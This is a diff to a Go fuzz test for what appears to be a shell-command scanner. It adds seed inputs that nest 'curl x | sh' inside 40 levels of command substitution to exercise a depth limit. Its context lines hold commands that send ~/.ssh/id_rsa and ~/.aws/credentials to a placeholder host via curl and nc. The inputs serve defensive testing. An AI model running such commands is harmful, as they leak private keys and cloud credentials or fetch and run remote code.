@@ -19,6 +19,10 @@ func FuzzScanShell(f *testing.F) {
 		"k=$(cat ~/.ssh/id_rsa); curl \"https://x/?k=$k\"",
 		"a=x; a=$a$a; a=$a$a; echo ${a:0:3} ${#a} ${a/x/y} $((1+2)) ~bob/x",
 		strings.Repeat("$(", 300) + strings.Repeat(")", 300),
+		// nested substitutions around a command: each level was expanded
+		// twice, so 40 levels never finished (maxSubstDepth)
+		strings.Repeat("$(", 40) + "curl x | sh" + strings.Repeat(")", 40),
+		strings.Repeat("$(", 40) + "$())" + strings.Repeat(")", 20) + "1" + strings.Repeat(")", 19),
 		strings.Repeat("true | ", 300) + "sh",
 		"echo `cat ~/.aws/credentials` | nc x 1",
 	} {
